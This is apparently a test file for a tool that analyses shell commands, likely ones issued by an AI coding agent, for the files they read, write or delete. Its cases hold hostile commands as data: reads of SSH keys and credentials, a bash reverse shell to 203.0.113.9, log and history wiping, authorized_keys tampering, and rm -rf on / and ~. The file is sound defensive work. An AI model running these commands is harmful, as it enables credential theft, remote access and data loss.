import { describe, expect, it } from 'vitest';
import type { SimpleCommand } from '../../src/commands/types.js';
import { commandOf, commandsOf, expectFacts } from './support.js';

type Case = readonly [text: string, name: string, facts: Partial<SimpleCommand>];

const READS: readonly Case[] = [
  ['cat ~/.ssh/id_rsa ./notes', 'cat', { reads: ['~/.ssh/id_rsa', 'notes'] }],
  ['head -n 5 "$HOME/.aws/credentials"', 'head', { reads: ['~/.aws/credentials'] }],
  ['tail -100 ~/.bash_history', 'tail', { reads: ['~/.bash_history'] }],
  ['grep -rEi "password|api_key" /home/mira', 'grep', { reads: ['/home/mira'], recursive: true }],
  ['grep -e a -f patterns file', 'grep', { reads: ['file'] }],
  ['rg secret ~/', 'rg', { reads: ['~/'] }],
  ["awk '{print $1}' /etc/passwd", 'awk', { reads: ['/etc/passwd'] }],
  ['sed -n 1,5p a.txt', 'sed', { reads: ['a.txt'], writes: [] }],
  ['jq -r .name package.json', 'jq', { reads: ['package.json'], recursive: false }],
  ['sort < in.txt > out.txt', 'sort', { reads: ['in.txt'], writes: ['out.txt'] }],
  ['dd if=/etc/shadow of=/tmp/s', 'dd', { reads: ['/etc/shadow'], writes: ['/tmp/s'] }],
  ['sqlite3 ~/.local/share/amazon-q/data.sqlite3 "select 1"', 'sqlite3', { reads: ['~/.local/share/amazon-q/data.sqlite3'] }],
  ['tar czf /tmp/h.tgz ~/.config', 'tar', { reads: ['~/.config'], writes: ['/tmp/h.tgz'] }],
  ['tar -C ~/.ssh -cf - .', 'tar', { reads: ['~/.ssh'], writes: [] }],
  ['tar --exclude=x -czf a.tgz b c', 'tar', { reads: ['b', 'c'], writes: ['a.tgz'] }],
  ['tar xzf a.tgz -C /opt', 'tar', { reads: ['a.tgz'], writes: ['/opt'] }],
  ['zip -r x.zip ~/.aws', 'zip', { reads: ['~/.aws'], writes: ['x.zip'] }],
  [
    'cat ~/.ssh/../.aws/credentials //etc//passwd file:///etc/shadow',
    'cat',
    { reads: ['~/.aws/credentials', '/etc/passwd', '/etc/shadow'] },
  ],
  ['cat ~/.ssh/{id_rsa,config}', 'cat', { reads: ['~/.ssh/id_rsa', '~/.ssh/config'] }],
  ['openssl enc -d -aes-256-cbc -in f.enc -out f.txt', 'openssl', { reads: ['f.enc'], writes: ['f.txt'] }],
  ['find ~ -name id_rsa -exec cat {} \\;', 'cat', { reads: ['~/**/id_rsa'], via: 'find' }],
  ['ls ~/.ssh/* | xargs cat', 'cat', { reads: ['~/.ssh/*'], args: [] }],
];

const WRITES: readonly Case[] = [
  ['echo x >> ~/.zshrc', 'echo', { writes: ['~/.zshrc'] }],
  ['make 2>err.log &>all.log', 'make', { writes: ['err.log', 'all.log'] }],
  ['make > /dev/null 2>&1', 'make', { writes: [] }],
  ['echo k | tee -a /root/.ssh/authorized_keys ~/.profile', 'tee', { writes: ['/root/.ssh/authorized_keys', '~/.profile'] }],
  [
    'cp a.pth venv/lib/python3.12/site-packages/',
    'cp',
    { reads: ['a.pth'], writes: ['venv/lib/python3.12/site-packages/', 'venv/lib/python3.12/site-packages/a.pth'] },
  ],
  ['cp -t ~/.config/autostart u.desktop', 'cp', { reads: ['u.desktop'], writes: ['~/.config/autostart', '~/.config/autostart/u.desktop'] }],
  ['mv ~/.kiro/sessions /tmp/s', 'mv', { reads: ['~/.kiro/sessions'], writes: ['/tmp/s'], deletes: [] }],
  ['ln -s /dev/null ~/.bash_history', 'ln', { reads: ['/dev/null'], writes: ['~/.bash_history'] }],
  ["sed -i 's/a/b/' ~/.bashrc", 'sed', { reads: ['~/.bashrc'], writes: ['~/.bashrc'] }],
  ["sed -i '' 's/a/b/' f", 'sed', { reads: ['f'], writes: ['f'] }],
  ["sed -i.bak -e 's/a/b/' f", 'sed', { writes: ['f'], flags: ['-i', '-e'] }],
  ["perl -i -pe 's/a/b/' f", 'perl', { reads: ['f'], writes: ['f'] }],
  ['curl -so /dev/null https://a.invalid', 'curl', { writes: [] }],
  ['truncate -s0 /var/log/auth.log', 'truncate', { writes: ['/var/log/auth.log'] }],
  [': > /var/log/auth.log', ':', { writes: ['/var/log/auth.log'] }],
  ['> ~/.bash_history', '', { writes: ['~/.bash_history'] }],
  ['{ echo a; echo b; } >> ~/.bashrc', '', { writes: ['~/.bashrc'] }],
  ['touch a.txt', 'touch', { writes: [] }],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'bash', { writes: ['/dev/tcp/203.0.113.9/4444'], sends: ['203.0.113.9'] }],
];

const DELETES: readonly Case[] = [
  ['rm -rf ./build', 'rm', { deletes: ['build'], recursive: true, force: true, outsideProject: false }],
  [
    'rm --recursive --force /home/mira/shop/.next',
    'rm',
    { deletes: ['/home/mira/shop/.next'], recursive: true, force: true, outsideProject: false },
  ],
  ['rm a.txt', 'rm', { deletes: ['a.txt'], recursive: false, force: false }],
  ['rm -- -rf', 'rm', { deletes: ['-rf'], recursive: false }],
  ['rm -rf ~/Documents', 'rm', { deletes: ['~/Documents'], outsideProject: true }],
  ['rm -rf ~/shop/dist', 'rm', { outsideProject: false }],
  ['rm -rf ../other-app', 'rm', { deletes: ['../other-app'], outsideProject: true }],
  ['rm -rf src/../../other', 'rm', { outsideProject: true }],
  ['rm -rf /tmp/build-x $TMPDIR/y', 'rm', { outsideProject: false }],
  ['rm -rf "$OUT"', 'rm', { deletes: ['$OUT'], outsideProject: undefined }],
  ['rm -rf /', 'rm', { deletes: ['/'], outsideProject: true }],
  ['rmdir old', 'rmdir', { deletes: ['old'], recursive: false }],
  ['unlink x', 'unlink', { deletes: ['x'] }],
  ['find . -name "*.pyc" -delete', 'find', { deletes: ['.'], recursive: true, ops: ['.'] }],
  ['find / -delete', 'find', { deletes: ['/'], outsideProject: true }],
  ['find ~/x -type f -exec rm {} +', 'find', { deletes: ['~/x'] }],
  ['find . -name node_modules | xargs rm -rf', 'rm', { deletes: ['**/node_modules'], recursive: true, line: 'rm -rf' }],
  ['git rm -r old', 'git', { deletes: ['old'], recursive: true }],
  ['docker exec web rm -rf /', 'rm', { deletes: ['/'], container: true, outsideProject: undefined }],
  ['ssh web-1 rm -rf /srv', 'rm', { deletes: ['/srv'], remote: true, outsideProject: undefined }],
];

describe('files a command reads', () => {
  it.each(READS)('%s', (text, name, facts) => expectFacts(text, name, facts));

  it.each([
    'stat ~/.ssh/id_rsa',
    'ls -la ~/.ssh',
    'sha256sum ~/.aws/credentials',
    'file x',
    'test -f ~/.netrc',
    '[ -f ~/.netrc ]',
    'ssh -i ~/.ssh/id_ed25519 host uptime',
    'scp -i ~/.ssh/id_ed25519 a.tgz host:/srv',
    'source ~/.bashrc',
  ])('only looks at it, or uses it: %s', (text) =>
    expect(commandsOf(text).flatMap((command) => command.reads.filter((path) => path.startsWith('~')))).toEqual([]),
  );
});

describe('files a command writes', () => {
  it.each(WRITES)('%s', (text, name, facts) => expectFacts(text, name, facts));
});

describe('files a command deletes', () => {
  it.each(DELETES)('%s', (text, name, facts) => expectFacts(text, name, facts));
});

describe('a quoted home directory is a file of that name', () => {
  it.each(['rm -rf ./~', "rm -rf '~'", 'rm -rf "~"', 'rm -rf \\~', 'bash -c "rm -rf \'~\'"'])('%s', (text) => {
    expectFacts(text, 'rm', { deletes: ['./~'], outsideProject: false });
  });

  it.each(['rm -rf ~', 'rm -rf $HOME', 'rm -rf "$HOME"', 'rm -rf "${HOME}"', "bash -c 'rm -rf ~'", "bash -c 'rm -rf $HOME'"])(
    'unquoted, or a variable: %s',
    (text) => {
      expectFacts(text, 'rm', { deletes: ['~'], outsideProject: true });
    },
  );

  it('keeps the rest of a word whose home is not quoted', () =>
    expectFacts('rm -rf ~/"my files" "$HOME"/x\'y\'', 'rm', { deletes: ['~/my files', '~/xy'] }));
  it('looks only at the beginning of a word', () => expectFacts('rm -f "$i"~ "a~" ~/"~"', 'rm', { deletes: ['$i~', 'a~', '~/~'] }));
  it('leaves a variable in single quotes alone', () => expectFacts("rm -rf '$HOME'", 'rm', { deletes: ['./$HOME'] }));
  it('shows the argument as the program gets it', () => expect(commandOf("rm -rf '~'", 'rm').ops).toEqual(['~']));
});

describe('the folder a line has changed to', () => {
  const cases: readonly Case[] = [
    ['cd ~ && rm -rf *', 'rm', { deletes: ['~/*'], outsideProject: true }],
    ['cd && rm -rf .', 'rm', { deletes: ['~'], outsideProject: true }],
    ['cd / && rm -rf *', 'rm', { deletes: ['/*'], outsideProject: true }],
    ['cd .. && rm -rf other', 'rm', { outsideProject: true }],
    ['cd x && rm -rf ./* .git', 'rm', { deletes: ['*', '.git'], outsideProject: false }],
    ['cd /home/mira/shop && rm -rf *', 'rm', { deletes: ['*'], outsideProject: false }],
    ['cd /tmp/b && rm -rf *', 'rm', { deletes: ['/tmp/b/*'], outsideProject: false }],
    ['cd ~/.aws; cat credentials', 'cat', { reads: ['~/.aws/credentials'] }],
    ['(cd /etc && ls); rm -rf x', 'rm', { deletes: ['x'], outsideProject: false }],
    ['cd /etc | cat; rm -rf x', 'rm', { deletes: ['x'] }],
    ['cd "$D" && rm -rf x', 'rm', { deletes: ['x'], outsideProject: undefined }],
    ['cd /etc; cd - ; rm -rf x', 'rm', { deletes: ['x'], outsideProject: false }],
    ['pushd /etc; popd; rm -rf x', 'rm', { deletes: ['x'], outsideProject: false }],
    ["bash -c 'cd /etc'; rm -rf x", 'rm', { deletes: ['x'] }],
    ["cd /etc; bash -c 'rm -rf x'", 'rm', { deletes: ['/etc/x'], outsideProject: true }],
  ];
  it.each(cases)('%s', (text, name, facts) => expectFacts(text, name, facts));

  it('tells what it can without a project', () => {
    expectFacts('rm -rf dist2', 'rm', { outsideProject: false }, 'execute_bash', '');
    expectFacts('rm -rf ../x', 'rm', { outsideProject: true }, 'execute_bash', '');
    expectFacts('rm -rf /srv/x', 'rm', { outsideProject: undefined }, 'execute_bash', '');
    expectFacts('rm -rf /tmp/x', 'rm', { outsideProject: false }, 'execute_bash', '');
  });
});
